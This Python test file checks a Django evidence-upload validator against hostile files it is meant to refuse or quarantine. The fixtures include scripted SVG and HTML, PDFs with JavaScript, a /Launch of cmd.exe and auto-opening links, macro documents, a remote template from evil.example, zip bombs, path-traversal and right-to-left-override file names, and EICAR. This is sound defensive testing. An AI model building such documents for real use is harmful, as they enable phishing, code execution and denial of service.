"""Which files are evidence: every good kind, and every hostile file as the table in
docs/evidence.md says.
"""

import base64
import html
import re
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from cycles.workflow import Refused
from submissions.contents import archives
from submissions.evidence import actions as evidence
from submissions.evidence import file_types
from submissions.models import Answer, Document
from tests.factories import build
from tests.jobs import work_off
from tests.submissions.conftest import EICAR
from tests.submissions.evidence import documents
from tests.submissions.evidence.documents import (
    HEIC,
    acting,
    archive,
    carrying,
    docx,
    letter,
    letterhead,
    opendocument,
    pdf,
    pdf_with,
    picture,
    pptx,
    protected,
    relationship,
    signed_pdf,
    slides,
    tiff,
    xlsx,
)

pytestmark = pytest.mark.django_db


def linked(target: str) -> bytes:
    """An OpenDocument text with a picture that lies elsewhere, and with links to click on."""
    spaces = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    )
    spaces += ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    links = '<text:a xlink:href="https://a.example"/><draw:a xlink:href="https://a.example"/>'
    content = f'<content {spaces}>{links}<draw:image xlink:href="{target}"/></content>'
    first = ("mimetype", "application/vnd.oasis.opendocument.text")
    return archive(first, ("content.xml", content), ("META-INF/manifest.xml", "<manifest/>"))


GOOD = {
    "گزارش سالانه.pdf": pdf(),
    "IMAGE.PNG": picture(),
    "a.jpg": picture("JPEG"),
    "a.jpeg": picture("JPEG"),
    "a.docx": docx(("word/media/image1.png", picture())),
    "chart.docx": docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx())),
    "links.docx": docx(
        ("word/_rels/document.xml.rels", relationship("hyperlink", "https://example.org"))
    ),
    "a.xlsx": xlsx(),
    "other.xlsx": xlsx(
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            relationship("externalLinkPath", "b.xlsx"),
        )
    ),
    "a.pptx": pptx(),
    "a.ods": opendocument("spreadsheet"),
    "a.odt": opendocument("text"),
    "pictures.odt": linked("Pictures/1.png"),
    "linked.odt": linked("file:///C:/pictures/1.png"),
    "a.csv": "سنجه,عدد\nآب,۲۰\n".encode(),
    "utf16.txt": "گزارش".encode("utf-16"),
    "windows.txt": "گزارش".encode("cp1256"),
    "a<b.txt": b"if a < b and c > d then",
    "note.csv": "کد,شرح\n1,<link به سند>\n2,متن <form 12>\n".encode(),
    "page.txt": "در سند <script> و <!doctype html> آمده است".encode(),
    "form.txt": "<form 12> کاربرگ".encode(),
    "restricted.pdf": protected(),
    "signed.pdf": signed_pdf("علی رضایی", "وزارت نمونه"),
    "data.pdf": carrying("scores.csv", b"a,b\n1,2\n"),
    "xml.pdf": carrying("factur-x.xml", b"<?xml version='1.0'?><invoice/>"),
    "bom.pdf": b"\xef\xbb\xbf" + pdf(),
    "newline.pdf": b"\r\n" + pdf(),
    "late.pdf": b"HTTP/1.1 200 OK\r\n" * 50 + pdf(),
    "scan.tif": tiff(),
    "scan.tiff": tiff(1),
    "photo.heic": HEIC,
    "photo.HEIF": HEIC,
    "photo.webp": picture("WEBP"),
    "photo.jfif": picture("JPEG"),
    "slides.odp": slides("یک", "دو"),
    "letter.eml": letter(("گزارش.pdf", pdf())),
    "forwarded.eml": b"From MAILER Mon Mar  2 10:15:00 2026\n" + letter(),
    "made.docx": letterhead("file:///C:\\Users\\me\\AppData\\letterhead.dotx"),
    "drive.docx": letterhead("D:\\forms\\letterhead.dotx"),
    "mac.docx": letterhead("file://localhost/Users/me/letterhead.dotx"),
    "normal.docx": letterhead("Normal.dotm"),
    "film.pptx": pptx(
        ("ppt/slides/_rels/slide1.xml.rels", relationship("video", "file:///C:/films/a%20b.mp4"))
    ),
}

BOMB = ("word/media/image1.png", b"\0" * (300 * 2**20))
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
MACRO_TYPES = documents.TYPES.replace(
    "application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
)
MANY = [(f"word/media/{n}.png", b"") for n in range(archives.MOST_PARTS)]
LARGE = [(f"word/media/{n}.bin", b"\0\1\2\3" * 2**18) for n in range(3)]


def long_list(content: bytes) -> bytes:
    """A document that says its list of parts is 100 MB long."""
    return content[:-10] + (100 * 2**20).to_bytes(4, "little") + content[-6:]


def swollen(content: bytes) -> bytes:
    """A document whose list of parts says that three of them unpack to 400 MB each, and were packed
    well.
    """
    place, name = 0, b"word/media/"
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        if content[place + 46 :].startswith(name):
            sizes = (4 * 2**20).to_bytes(4, "little") + (400 * 2**20).to_bytes(4, "little")
            content = content[: place + 20] + sizes + content[place + 28 :]
    return content


def speaking_of_encryption(document):
    document.pages[0].Contents = document.make_stream(
        b"BT (See clause /Encrypt 5 of the standard) Tj ET"
    )


def hiding_its_kind(document):
    kind = document.make_indirect(pikepdf.Name.JavaScript)
    document.Root.OpenAction = pikepdf.Dictionary(JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction.S = kind


def oddly_packed(document):
    content = pikepdf.Stream(document, b"MZ", Filter=pikepdf.Name.Unknown)
    names = pikepdf.Dictionary(F=pikepdf.String("a.csv"), EF=pikepdf.Dictionary(F=content))
    document.Root.AF = pikepdf.Array([document.make_indirect(names)])


def with_xfa(document):
    form = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))
    document.Root.AcroForm = form


HIDDEN = b"%PDF-1.7\n1 0 obj\n<< /Length 3 >>\nstream\nabc\nendstream\nendobj\n"
LONG = "گزارش " * 60 + ".pdf"

# what stands in the table: the file's name, its content, and either words of the refusal or the
# name it is kept under
HOSTILE = {
    "a program named as a PDF": ("proof.pdf", b"MZ\x90\0 program", "not what its name says"),
    "a program": ("run.exe", b"MZ\x90\0", "“run.exe” cannot be accepted. Files may be"),
    "a PDF named as a picture": ("proof.png", pdf(), "not what its name says"),
    "a name with a path": ("../../etc/passwd.pdf", pdf(), "passwd.pdf"),
    "a name with a Windows path": ("C:\\Users\\me\\proof.pdf", pdf(), "proof.pdf"),
    "an SVG with script": ("logo.svg", SVG, "“logo.svg” cannot be accepted: print it to PDF"),
    "an SVG named as a picture": ("logo.png", SVG, "not what its name says"),
    "an SVG named as text": ("logo.txt", SVG, "a web page or a drawing"),
    "an HTML page with script": ("page.html", HTML, "“page.html” cannot be accepted: print it to PDF"),
    "an HTML page named as a table": ("page.csv", b"\n\n" + HTML, "a web page or a drawing"),
    "a document with macros": ("report.docm", docx(("word/vbaProject.bin", b"x")), "holds a program"),
    "a document with macros under "
    "another ending": ("a.docx", docx(("word/vbaProject.bin", b"x")), "holds a program"),
    "a document that names macros in its "
    "list of types": ("a.docx", docx(types=MACRO_TYPES), "holds a program"),
    "a document with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    "a PDF that asks for a password": ("a.pdf", protected(user="secret"), "asks for a password before it opens"),
    "a PDF that only its owner may change": ("a.pdf", protected(), "a.pdf"),
    "a PDF that speaks of encryption": ("a.pdf", pdf_with(speaking_of_encryption), "a.pdf"),
    "a PDF with bytes before its head": ("a.pdf", b"\xef\xbb\xbf" + pdf(), "a.pdf"),
    "a program with a PDF behind it": ("a.pdf", b"MZ\x90\0" + pdf(), "it is a program"),
    "a PDF with a script": ("a.pdf", acting("/JavaScript", JS="app.alert(1)"), "holds a program (a script)"),
    "a PDF that starts a program": ("a.pdf", acting("/Launch", F="cmd.exe"), "starts another program"),
    "a PDF that opens an address by itself": ("a.pdf", acting("/URI", URI="https://a.example"), "by itself"),
    "a PDF that sends its form off": ("a.pdf", acting("/SubmitForm", F="https://a.example"), "sends off or fetches"),
    "a PDF form with a program inside": ("a.pdf", pdf_with(with_xfa), "(XFA)"),
    "a PDF with a program attached": ("a.pdf", carrying("tool.exe", b"MZ"), "another file inside (“tool.exe”)"),
    "a PDF with a program attached under "
    "another name": ("a.pdf", carrying("a.png", b"MZ\0"), "it is a program"),
    "a PDF with a PDF attached that has a script": (
        "a.pdf", carrying("b.pdf", acting("/JavaScript", JS="app.alert(1)")), "holds a program (a script)",
    ),
    "a PDF with its table attached": ("a.pdf", carrying("a.csv", b"a,b"), "a.pdf"),
    "a PDF that is broken and may "
    "hide something": ("a.pdf", HIDDEN, "what is inside cannot be looked at"),
    "a PDF that hides of what kind "
    "its action is": ("a.pdf", pdf_with(hiding_its_kind), "holds a program (a script)"),
    "a PDF with a file attached in an "
    "unknown packing": ("a.pdf", pdf_with(oddly_packed), "cannot be looked at"),
    "a PDF that is broken and names a script": ("a.pdf", b"%PDF-1.7 /S /JavaScript", "print it to PDF anew"),
    "a document that fetches its template": (
        "a.docx", letterhead("https://evil.example/t.dotm"), "its template from outside (“https://evil.example/t.dotm”)",
    ),
    "a document whose template is on a server": (
        "a.docx", letterhead(r"\\server\share\t.dotm"), "write “Normal” as the document template",
    ),
    "a document whose template was on its "
    "writer's disk": ("a.docx", letterhead("file:///C:\\t.dotx"), "a.docx"),
    "a document that fetches a picture": (
        "a.docx",
        docx(("word/_rels/document.xml.rels", relationship("image", "http://a.example/1.png"))),
        "fetches something from outside (“http://a.example/1.png”)",
    ),
    "an OpenDocument text that fetches a picture": (
        "a.odt", linked("http://a.example/1.png"), "fetches something from outside (“http://a.example/1.png”)",
    ),
    "an OpenDocument text that calls a program": (
        "a.odt", linked("vnd.sun.star.script:x?language=Basic"), "holds a program",
    ),
    "words that look like markup": ("a.csv", "متن,<form 12>,<link به سند>".encode(), "a.csv"),
    "a HEIC photograph named as a JPEG": (
        "photo.jpg", HEIC, "it is a HEIC photograph; let its name end in “.heic”",
    ),
    "a JPEG named as a PNG": ("photo.png", picture("JPEG"), "it is a JPEG picture; let its name end in “.jpg”"),
    "an old Word document": ("a.doc", b"\xd0\xcf\x11\xe0", "save it as DOCX, XLSX or PPTX, or print it to PDF"),
    "an archive": ("a.zip", archive(("x", "y")), "unpack it, and upload its files one by one"),
    "an e-mail": ("a.eml", letter(("a.pdf", pdf())), "a.eml"),
    "an e-mail with a program": ("a.eml", letter(("tool.exe", b"MZ")), "carries a program (“tool.exe”)"),
    "a web page named as an e-mail": ("a.eml", HTML, "it is a web page or a drawing"),
    "a document with an embedded object": (
        "a.docx", docx(("word/embeddings/oleObject1.bin", b"x")), "another file inside",
    ),
    "a document with an archive inside": ("a.docx", docx(("word/media/a.zip", archive(("x", "y")))), "file inside"),
    "a zip bomb": ("a.docx", docx(BOMB), "far more than a document holds"),
    "a zip bomb of many parts": ("a.docx", docx(*MANY), "more than 5,000 parts"),
    "a zip bomb whose list of parts is long": ("a.docx", long_list(docx()), "more than 5,000 parts"),
    "a zip bomb that is large": ("a.docx", swollen(docx(*LARGE)), "far more than a document holds"),
    "a zip bomb within a document": ("a.docx", docx(("word/embeddings/a.xlsx", xlsx(BOMB))), "far more than"),
    "an archive that is broken": ("a.docx", docx()[:-30], "cannot be unpacked"),
    "an archive named as a document": ("a.docx", archive(("x.txt", "y")), "not what its name says"),
    "an empty file": ("a.pdf", b"", "“a.pdf” is empty"),
    "a very long name": (LONG, pdf(), LONG[:116].strip() + ".pdf"),
    "a right-to-left override that "
    "hides a program": ("r\u202efdp.exe", b"MZ", "“rfdp.exe” cannot be accepted"),
    "a right-to-left override in a good name": ("\u2067گزارش\u202exslx\u200f.pdf", pdf(), "گزارشxslx.pdf"),
    "control characters in a name": ("a\0b\r\nc\x1b.pdf", pdf(), "ab c.pdf"),
    "the EICAR test file": ("a.txt", EICAR, "a.txt"),
    "the EICAR test file within a document": ("a.docx", docx(("word/media/a.txt", EICAR)), "a.docx"),
    "a picture of a thousand million pixels": ("a.png", documents.huge_picture(), "a.png"),
    "a PDF that is broken": ("a.pdf", b"%PDF-1.7 and no more", "a.pdf"),
}  # fmt: skip


UNDRAWN = {
    "a picture of a thousand million pixels",
    "a PDF that is broken",
    "a document whose template was on its writer's disk",
    "words that look like markup",
    "an e-mail",
}


def table() -> dict[str, str]:
    """The outcome of each file, as the page of the docs has it."""
    text = (Path(settings.BASE_DIR) / "docs/evidence.md").read_text()
    section = text.split("## Hostile files")[1].split("\n## ")[0]
    return dict(re.findall(r"^\| ([^|]+?) \| (refused|kept|locked away) \|", section, flags=re.M))


def test_the_docs_name_every_hostile_file_of_this_test():
    assert set(table()) == set(HOSTILE)


@pytest.mark.parametrize("label", HOSTILE)
def test_a_hostile_file_is_handled_as_the_docs_say(label, scanner):
    world = build("begun")
    line = Answer.objects.select_related("measure", "submission").get(
        submission=world.submission, measure__code="G1-1"
    )
    name, content, said = HOSTILE[label]
    outcome = table()[label]
    upload = ContentFile(content)
    upload.name = name

    with translation.override("en"):
        if outcome == "refused":
            with pytest.raises(Refused, match=re.escape(said)):
                evidence.attach(line, upload=upload, by=world.staff, at=world.at)
            assert not Document.objects.exists()
            return
        evidence.attach(line, upload=upload, by=world.staff, at=world.at)
    work_off()

    document = Document.objects.get()
    assert document.name == said
    assert document.state == ("infected" if outcome == "locked away" else "clean")
    assert document.is_open == (outcome == "kept")
    assert bool(document.pages) == (outcome == "kept" and label not in UNDRAWN)


@pytest.mark.parametrize("name", GOOD)
def test_what_people_upload_is_accepted(name):
    file = ContentFile(GOOD[name])

    with translation.override("en"):
        assert file_types.why_not_named(file_types.clean_name(name), file.size, 2**20) == ""
        assert file_types.why_not_content(name, file) == ""


@pytest.mark.parametrize(
    ("raw", "kept"),
    (
        ("می\u200cشود.pdf", "می\u200cشود.pdf"),
        (" . ", "file"),
        (".pdf", "file.pdf"),
        ("a  b\t.pdf", "a b.pdf"),
        ("x." + "y" * 400, "x." + "y" * 10),
        ("a/b\\", "file"),
        ("cafe\u0301.txt", "caf\u00e9.txt"),
    ),
)
def test_names_are_made_fit_to_be_shown(raw, kept):
    assert file_types.clean_name(raw) == kept


@pytest.mark.parametrize("size", (1, file_types.PIECE, 3 * file_types.PIECE))
def test_text_with_a_zero_byte_anywhere_is_no_text(size, tmp_path):
    place = tmp_path / "a.txt"
    place.write_bytes(b"x" * size + b"\0" + b"x" * size)

    with place.open("rb") as content, translation.override("en"):
        file = evidence.File(content, name="a.txt")
        assert "not text" in file_types.why_not_content("a.txt", file)
        assert "not text" in file_types.why_not_content("a.txt", ContentFile(place.read_bytes()))


def mail_within(encoding: str, kind: str) -> bytes:
    """An e-mail to which another one, that carries a program, is attached as webmail and Exchange
    do.
    """
    head = b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n"
    part = f"--c\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n".encode()
    inner = letter(("tool.exe", b"x"))
    return (
        head
        + part
        + (base64.encodebytes(inner) if encoding == "base64" else inner)
        + b"\r\n--c--\r\n"
    )


@pytest.mark.parametrize(
    "content",
    (
        letter(("tool.exe.", b"x")),
        letter(("book.xlam", b"x")),
        letter(("tool.pdf", b"MZ\x90\0")),
        mail_within("8bit", "message/rfc822"),
        mail_within("base64", "message/rfc822"),
        mail_within("base64", 'application/octet-stream; name="inner.eml"'),
    ),
)
def test_a_program_in_an_email_is_found_under_every_name_and_within_other_emails(content):
    with translation.override("en"):
        assert "it carries a program" in file_types.why_not_content("a.eml", ContentFile(content))


def opened_at(*where):
    """A PDF that says which part of its first page is shown first, as most programs write it."""

    def change(document):
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, *where])

    return pdf_with(change)


def opened_in_steps(last):
    """A PDF that goes to its first page when it is opened, and then does something else."""

    def change(document):
        then = pikepdf.Array([pikepdf.Dictionary(last)])
        place = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=then)

    return pdf_with(change)


PRINTS = opened_in_steps({"/S": pikepdf.Name.Named, "/N": pikepdf.Name.Print})
VISITS = opened_in_steps({"/S": pikepdf.Name.URI, "/URI": pikepdf.String("https://a.example")})


def with_link(document):
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://a.example"))
    note = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=link, AA=pikepdf.Dictionary()
    )
    document.pages[0].Annots = pikepdf.Array([note])


@pytest.mark.parametrize(
    "content",
    (
        opened_at(pikepdf.Name.XYZ, None, 842, 1),
        opened_at(pikepdf.Name.FitH, 842),
        pdf_with(with_link),
        PRINTS,
    ),
)
def test_a_pdf_with_numbers_beside_its_places_and_links_is_accepted(content):
    assert file_types.why_not_content("a.pdf", ContentFile(content)) == ""


def test_a_pdf_that_visits_an_address_after_it_has_gone_to_its_first_page_is_refused():
    with translation.override("en"):
        assert "opens an address" in file_types.why_not_content("a.pdf", ContentFile(VISITS))


def acting_slide(action: str) -> bytes:
    """A presentation with a picture that does something when it is clicked on."""
    slide = (
        f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkClick r:id="r1" '
        f'action="{action}"/></p:sld>'
    )
    program = relationship("hyperlink", "file:///C:\\Windows\\calc.exe")
    return pptx(("ppt/slides/slide1.xml", slide), ("ppt/slides/_rels/slide1.xml.rels", program))


def acting_page(action: str, target: str = "file:///C:/Windows/calc.exe") -> bytes:
    """The same as LibreOffice keeps it."""
    spaces = (
        'xmlns:p="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
        'xmlns:x="http://www.w3.org/1999/xlink"'
    )
    listener = f'<p:event-listener p:action="{action}" x:href="{target}"/>'
    mimetype = ("mimetype", "application/vnd.oasis.opendocument.presentation")
    return archive(
        mimetype,
        ("content.xml", f"<d {spaces}>{listener}</d>"),
        ("META-INF/manifest.xml", "<manifest/>"),
    )


@pytest.mark.parametrize(
    ("name", "content", "is_refused"),
    (
        ("a.pptx", acting_slide("ppaction://program"), True),
        ("a.pptx", acting_slide("ppaction&#58;//macro?name=x"), True),
        ("a.pptx", acting_slide("ppaction://hlinksldjump"), False),
        ("a.odp", acting_page("execute"), True),
        ("a.odp", acting_page("show"), False),
        ("a.odp", acting_page("show", "https://a.example/"), False),
    ),
)
def test_slides_on_which_a_click_starts_a_program_are_refused(name, content, is_refused):
    with translation.override("en"):
        why = file_types.why_not_content(name, ContentFile(content))

    assert ("starts another program" in why) == is_refused
    assert bool(why) == is_refused


@pytest.mark.parametrize(
    "name", ("word/embeddings/Package.bin", "word/embeddings/a.pdf", "word/embeddings/x")
)
def test_a_file_embedded_in_a_document_under_any_name_is_refused(name):
    with translation.override("en"):
        assert "another file inside" in file_types.why_not_content(
            "a.docx", ContentFile(docx((name, b"MZ")))
        )


def test_a_document_of_another_kind_than_its_ending_is_refused():
    with translation.override("en"):
        for name, content in (
            ("a.xlsx", docx()),
            ("a.ods", opendocument("text")),
            ("a.odt", docx()),
        ):
            assert "not what its name says" in file_types.why_not_content(
                name, ContentFile(content)
            )
        for name, part in (
            ("a.odt", "Basic/Standard/Module1.xml"),
            ("a.xlsx", "xl/macrosheets/sheet1.xml"),
        ):
            content = opendocument("text", (part, "x")) if name == "a.odt" else xlsx((part, "x"))
            assert "holds a program" in file_types.why_not_content(name, ContentFile(content))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    (
        ("a.pdf", protected(user="secret"), "بدون گذرواژه باز نمی‌شود"),
        ("a.docx", letterhead("https://evil.example/t.dotm"), "به‌جای الگوی سند «Normal» بنویسید"),
        ("a.pdf", carrying("tool.exe", b"MZ"), "فایل دیگری در درون خود دارد («tool.exe»)"),
        ("a.pdf", acting("/Launch", F="cmd.exe"), "برنامهٔ دیگری را اجرا می‌کند"),
        ("photo.jpg", HEIC, "عکس HEIC است؛ پسوند نام آن را «.heic» کنید"),
        ("a.zip", b"PK", "آن را باز و فایل‌های درونش را یک‌به‌یک بارگذاری کنید"),
    ),
)
def test_a_refusal_is_read_in_persian_beside_the_field_and_nothing_is_kept(
    visit, name, content, said
):
    world = build("begun")
    line = Answer.objects.get(submission=world.submission, measure__code="G1-1")
    address = f"/fa/submissions/lines/{line.pk}/evidence/"

    page = visit(world, world.staff).post(address, {"file": SimpleUploadedFile(name, content)})

    assert said in html.unescape(page.content.decode())
    assert not Document.objects.exists()
